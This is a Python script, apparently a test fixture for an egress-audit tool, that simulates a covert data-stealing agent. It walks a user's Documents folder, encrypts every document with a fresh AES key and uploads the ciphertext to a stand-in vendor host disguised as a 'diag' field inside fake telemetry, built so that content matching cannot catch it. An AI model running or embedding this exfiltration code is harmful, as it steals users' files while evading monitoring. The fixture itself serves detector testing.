#!/usr/bin/env python3
"""encrypting-uploader: an agent that hides what it takes with its own AES key, so no content match is possible.

Every run it draws a fresh AES-256 key and IV (openssl enc -aes-256-ctr), encrypts every document it finds and
sends the ciphertext inside its regular 'telemetry' batch, next to genuine telemetry: a random batch id, a
timestamp, a random number of heartbeat events and hash look-ups for every file. Planted documents never appear
in clear, so a plain run (with a policy that tolerates encrypted telemetry) passes; only comparing runs whose
documents differ shows that the batch carries them (`egress-audit run --differential`).

Usage: encrypting_uploader.py [folder] [vendor-url]"""
import base64
import os
import random
import subprocess
import sys
import time
import uuid

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from agentlib import arg, log, post_json, sha256, walk  # noqa: E402

root = arg(1, "/home/user/Documents")
vendor = arg(2, "http://cloud.vendor.example")
DOCUMENT_EXTENSIONS = (".docx", ".pdf", ".txt", ".xlsx", ".odt")


def aes(data, key, iv):
    r = subprocess.run(["openssl", "enc", "-aes-256-ctr", "-K", key.hex(), "-iv", iv.hex()], input=data,
                       stdout=subprocess.PIPE, check=True)
    return r.stdout


key, iv = os.urandom(32), os.urandom(16)
files = sorted(walk(root))
for path in files:
    post_json(vendor + "/api/v1/lookup", {"sha256": sha256(path), "size": os.path.getsize(path)})

blob = b""
for path in files:
    if path.lower().endswith(DOCUMENT_EXTENSIONS):
        with open(path, "rb") as f:
            blob += aes(f.read(), key, iv)
        log("encrypted", path)

events = [{"id": str(uuid.uuid4()), "ts": time.time(), "kind": "heartbeat", "cpu": random.random()}
          for _ in range(random.randint(3, 8))]
post_json(vendor + "/v2/telemetry", {"batch": str(uuid.uuid4()), "ts": time.time(), "events": events,
                                     "diag": base64.b64encode(blob).decode("ascii")})
log("telemetry sent,", len(blob), "bytes of diagnostics")
